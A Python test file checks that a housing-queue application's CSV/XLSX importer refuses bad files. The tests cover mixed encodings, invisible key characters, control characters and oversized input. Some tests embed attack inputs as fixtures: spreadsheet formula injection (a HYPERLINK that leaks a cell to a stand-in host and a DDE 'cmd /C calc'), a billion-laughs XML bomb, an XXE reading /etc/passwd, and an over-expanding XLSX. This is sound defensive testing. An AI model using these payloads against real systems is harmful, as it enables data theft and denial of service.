"""Files that used to import wrongly without a word: mixed encodings, invisible characters in keys,
formula cells, UTF-16, control characters, over-long and hostile cells (issue 14 §3)."""
from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from boligmote.services.importing import ImportFileError, commit_import, plan_import
from boligmote.services.importing import reading
from boligmote.store.households import HouseholdRepository

ROOT = Path(__file__).resolve().parents[2]
TODAY = date(2026, 11, 23)
HEADER = "saksnummer;husstandstype;voksne;prioritet;vedtaksdato;navn"


def applicant_line(case_no: str, name: str = "Kari Eksempel") -> str:
    return f"{case_no};single;1;prioritert;01.06.2026;{name}"


def csv_file(path: Path, *lines: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(("\r\n".join([HEADER, *lines]) + "\r\n").encode(encoding))
    return path


def refusals(plan) -> list[tuple[int, str]]:
    return [(p.row, p.column) for p in plan.problems]


# ---- encodings ------------------------------------------------------------------------------------

def test_one_stray_windows_byte_in_a_utf8_file_is_refused_in_its_cell_not_decoded_as_windows(new_db, tmp_path):
    """Before: the whole file was read as Windows-1252, so every «ø» became «Ã¸» (BjÃ¸rn) without a word."""
    path = tmp_path / "sokere.csv"
    text = "\r\n".join([HEADER, applicant_line("2026/1", "Bjørn Åsen"), applicant_line("2026/2", "Søren @@"), ""])
    path.write_bytes(text.encode("utf-8").replace(b"@@", "Bæk".encode("cp1252")))
    plan = plan_import(new_db, "applicants", path, TODAY)
    assert refusals(plan) == [(3, "navn")]
    assert "UTF-8" in plan.problems[0].reason
    assert "Ã" not in str(plan.problems[0]) and "\ufffd" in plan.problems[0].value  # shown, not crashing a print
    assert "ugyldige tegn" in plan.table.format


def test_a_file_wholly_in_windows_1252_is_still_read_as_such(new_db, tmp_path):
    plan = plan_import(new_db, "applicants", csv_file(tmp_path / "s.csv", applicant_line("2026/1", "Bjørn Åsen"),
                                                      encoding="cp1252"), TODAY)
    assert plan.ok and "Windows-1252" in plan.table.format
    assert plan.changes.records[0].name == "Bjørn Åsen"


@pytest.mark.parametrize("encoding, bom", [("utf-16", b""), ("utf-16-le", b""), ("utf-16-be", b""),
                                           ("utf-16-le", b"\xff\xfe")])
def test_utf16_files_are_read(new_db, tmp_path, encoding, bom):
    """Before: «kolonnen mangler» for every column. Excel's «Unicode-tekst» is UTF-16 with tabs."""
    path = tmp_path / "sokere.txt"
    lines = [HEADER, applicant_line("2026/1", "Bjørn Åsen")]
    path.write_bytes(bom + "\r\n".join(line.replace(";", "\t") for line in lines).encode(encoding))
    plan = plan_import(new_db, "applicants", path, TODAY)
    assert plan.ok, plan.problems
    assert "UTF-16" in plan.table.format and plan.changes.records[0].name == "Bjørn Åsen"


# ---- invisible characters in keys -----------------------------------------------------------------

@pytest.mark.parametrize("invisible", ["\u200b", "\ufeff", "\u2060", "\u00ad"])
def test_an_invisible_character_in_a_key_is_not_a_second_applicant(new_db, tmp_path, invisible):
    """Before: «2026/1» and «2026/\u200b1» were two applicants that look the same on every screen."""
    path = csv_file(tmp_path / "s.csv", applicant_line("2026/1"), applicant_line(f"2026/{invisible}1"))
    plan = plan_import(new_db, "applicants", path, TODAY)
    assert refusals(plan) == [(3, "saksnummer")]
    assert "står også på rad 2" in plan.problems[0].reason


def test_an_invisible_character_in_a_key_updates_the_stored_record(demo_db, tmp_path):
    case_no = HouseholdRepository(demo_db).queue()[0].case_no
    path = csv_file(tmp_path / "s.csv", applicant_line("\ufeff" + case_no[:4] + "\u200b" + case_no[4:], "Ny Navnesen"))
    plan = plan_import(demo_db, "applicants", path, TODAY)
    assert plan.ok and (plan.changes.created, plan.changes.updated) == (0, 1)
    commit_import(demo_db, plan)
    assert HouseholdRepository(demo_db).applicant(case_no).name == "Ny Navnesen"


def test_a_decomposed_letter_is_the_same_key_as_the_composed_one(new_db, tmp_path):
    path = csv_file(tmp_path / "s.csv", applicant_line("SØK-Å1"), applicant_line("SØK-A\u030a1"))
    assert refusals(plan_import(new_db, "applicants", path, TODAY)) == [(3, "saksnummer")]


# ---- control characters and limits ----------------------------------------------------------------

@pytest.mark.parametrize("name, reason", [
    ("Kari\x00Nordmann", "NUL"),
    ("Kari\x1bNordmann", "U+001B"),
    ("Kari\u202eNordmann", "U+202E"),
    ("K" * 201, "høyst 200 tegn"),
    ("K" * 50_000, "høyst 200 tegn"),
])
def test_control_characters_and_overlong_text_are_refused_with_row_column_and_reason(new_db, tmp_path, name, reason):
    """Before: a NUL in a name was stored, and then every export of the queue failed."""
    plan = plan_import(new_db, "applicants", csv_file(tmp_path / "s.csv", applicant_line("2026/1"),
                                                      applicant_line("2026/2", name)), TODAY)
    assert refusals(plan) == [(3, "navn")]
    assert reason in plan.problems[0].reason
    shown = str(plan.problems[0])
    assert shown.isprintable() and len(shown) < 300


def test_a_line_break_inside_a_quoted_name_is_refused_but_a_tab_free_address_is_fine(new_db, tmp_path):
    path = tmp_path / "b.csv"
    path.write_text('bygning_id;adresse;bydel;eierform;antall_boliger\r\nB1;"Demoveien 1\nH0101";Sentrum;heleid;4\r\n'
                    "B2;Demoveien\u00a02;Sentrum;heleid;4\r\n", encoding="utf-8")
    plan = plan_import(new_db, "buildings", path, TODAY)
    assert refusals(plan) == [(2, "adresse")] and "én linje" in plan.problems[0].reason


def test_a_cell_too_large_for_any_field_refuses_the_file_early(new_db, tmp_path):
    path = tmp_path / "s.csv"
    path.write_text(HEADER + "\r\n" + applicant_line("2026/1", '"' + "K" * 300_000 + '"') + "\r\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="lengre enn 100 000 tegn"):
        plan_import(new_db, "applicants", path, TODAY)


def test_an_unterminated_quote_does_not_swallow_the_file(new_db, tmp_path):
    path = tmp_path / "s.csv"
    path.write_text(HEADER + '\r\n2026/1;single;1;prioritert;01.06.2026;"Kari\r\n' + "x;" * 60_000 + "\r\n",
                    encoding="utf-8")
    with pytest.raises(ImportFileError, match="anførselstegn"):
        plan_import(new_db, "applicants", path, TODAY)


def test_a_very_long_line_refuses_the_file(new_db, tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "MAX_LINE_CHARS", 1000)
    path = csv_file(tmp_path / "s.csv", applicant_line("2026/1", "K" * 2000))
    with pytest.raises(ImportFileError, match="linje 2 er lengre enn 1 000 tegn"):
        plan_import(new_db, "applicants", path, TODAY)


def test_more_rows_than_the_cap_refuses_the_file(new_db, tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "MAX_ROWS", 3)
    path = csv_file(tmp_path / "s.csv", *(applicant_line(f"2026/{n}") for n in range(4)))
    with pytest.raises(ImportFileError, match="mer enn 3 rader"):
        plan_import(new_db, "applicants", path, TODAY)


# ---- XLSX -------------------------------------------------------------------------------------------

def xlsx_file(path: Path, *rows: list) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(";"))
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def test_a_formula_cell_is_refused_with_row_and_column_not_imported_as_an_empty_name(new_db, tmp_path):
    """Before: the name imported as '' (openpyxl has no cached value for a formula it did not compute)."""
    path = xlsx_file(tmp_path / "s.xlsx", ["2026/1", "single", 1, "prioritert", "01.06.2026", "Kari"],
                     ["2026/2", "single", 1, "prioritert", "01.06.2026", '=HYPERLINK("http://x/?"&A1,"klikk")'],
                     ["2026/3", "single", 1, "prioritert", "01.06.2026", "=cmd|' /C calc'!A0"])
    plan = plan_import(new_db, "applicants", path, TODAY)
    assert refusals(plan) == [(3, "navn"), (4, "navn")]
    assert all("formel" in p.reason for p in plan.problems)


def _xlsx_with_sheet_xml(path: Path, sheet_xml: str) -> Path:
    xlsx_file(path, ["2026/1", "single", 1, "prioritert", "01.06.2026", "Kari"])
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["xl/worksheets/sheet1.xml"] = sheet_xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


_SHEET = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
          '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>')
_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lollollollollollollollol">'
           + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
           + '<!ENTITY e "&i;">]>' + _SHEET)
_EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + _SHEET


@pytest.mark.parametrize("sheet_xml", [_LAUGHS, _EXTERNAL], ids=["billion-laughs", "external-entity"])
@pytest.mark.parametrize("defused", ["True", "False"])
def test_xml_entity_tricks_are_refused_with_a_message_not_a_traceback(tmp_path, sheet_xml, defused):
    """Before: xml ParseError traceback. The file is refused by our own check even where openpyxl
    does not use defusedxml (OPENPYXL_DEFUSEDXML=False), and by defusedxml where it does."""
    path = _xlsx_with_sheet_xml(tmp_path / "s.xlsx", sheet_xml)
    result = subprocess.run([sys.executable, "-m", "boligmote", "import", "--db", str(tmp_path / "ny.sqlite"),
                             "--kind", "applicants", str(path)], capture_output=True, text=True, timeout=120,
                            env={**os.environ, "OPENPYXL_DEFUSEDXML": defused, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "XML" in result.stderr


def test_openpyxl_parses_with_defusedxml_which_is_a_declared_dependency():
    import tomllib

    import openpyxl

    dependencies = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["dependencies"]
    assert any(d.startswith("defusedxml") for d in dependencies)
    assert openpyxl.DEFUSEDXML


def test_an_xlsx_that_unpacks_beyond_the_cap_is_refused_before_it_is_read(new_db, tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "MAX_XLSX_UNPACKED", 50_000)
    path = _xlsx_with_sheet_xml(tmp_path / "s.xlsx", _SHEET.replace("&e;", "A" * 100_000))
    assert path.stat().st_size < 20_000  # it is small on disk: the zip's own directory tells
    with pytest.raises(ImportFileError, match="pakker seg ut til"):
        plan_import(new_db, "applicants", path, TODAY)
